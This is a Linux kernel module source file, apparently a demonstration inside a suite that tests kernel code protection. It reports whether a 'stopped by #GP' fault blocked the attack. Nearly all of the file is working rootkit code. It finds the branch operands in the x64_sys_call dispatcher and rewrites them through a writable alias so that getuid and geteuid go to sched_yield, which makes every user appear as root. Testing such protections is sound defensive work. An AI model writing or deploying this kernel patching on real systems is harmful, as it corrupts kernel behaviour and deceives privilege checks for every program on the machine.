// SPDX-License-Identifier: GPL-2.0-only
/*
 * What a demonstration shows: a rootkit in whose eyes every user is root. It redirects system calls in
 * the kernel's code, and stays until its module goes. The parameter result says how that ended.
 */
#include <linux/mm.h>
#include <asm/trapnr.h>

#include "attack.h"

#define OPERAND	4	/* bytes of a branch's operand, which is relative to its end */

/* Both answer who the caller is, and go where the answer is always 0. */
static const char *const redirected[] = { "__x64_sys_getuid", "__x64_sys_geteuid" };
static const char target[] = "__x64_sys_sched_yield";
static const char dispatcher[] = "x64_sys_call";

/* Where it redirected them. */
static u8 *branch[ARRAY_SIZE(redirected)];

static char result[64];
module_param_string(result, result, sizeof(result), 0400);

static u8 *branch_to(unsigned long function)
{
	u8 *code = (u8 *)attack_symbol(dispatcher), *end = code + 0x10000;

	for (; code && function && code < end; code++)
		if ((unsigned long)code + OPERAND + *(s32 *)code == function &&
		    offset_in_page(code) <= PAGE_SIZE - OPERAND)
			return code;
	return NULL;
}

/* Returns the exception that stopped it, ATTACK_NO_FAULT if none did. */
static u64 write_operand(u8 *branch, unsigned long function)
{
	u8 *alias = attack_alias(branch);
	u32 operand = function - (unsigned long)branch - OPERAND;
	u64 vector = ATTACK_NO_FAULT;

	if (alias) {
		ATTACK_TRY(vector, "movl %[v], (%[to])", [to] "r" (alias), [v] "r" (operand));
		attack_unalias(alias);
	}
	return vector;
}

static u64 redirect(size_t i)
{
	u8 *where = branch_to(attack_symbol(redirected[i]));
	u64 vector = where ? write_operand(where, attack_symbol(target)) : ATTACK_NO_FAULT;

	if (where && vector == ATTACK_NO_FAULT)
		branch[i] = where;
	return vector;
}

static int __init rootkit_init(void)
{
	u64 vector = ATTACK_NO_FAULT;
	bool complete = true;
	size_t i;

	for (i = 0; i < ARRAY_SIZE(redirected) && vector == ATTACK_NO_FAULT; i++) {
		vector = redirect(i);
		complete &= branch[i] != NULL;
	}
	if (vector == X86_TRAP_GP)
		strscpy(result, "stopped by #GP", sizeof(result));
	else if (vector != ATTACK_NO_FAULT)
		snprintf(result, sizeof(result), "stopped by exception %llu", vector);
	else
		strscpy(result, complete ? "installed" : "failed", sizeof(result));
	return 0;
}

static void __exit rootkit_exit(void)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(redirected); i++)
		if (branch[i])
			write_operand(branch[i], attack_symbol(redirected[i]));
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_DESCRIPTION("Attack: every user is root");
MODULE_LICENSE("GPL");
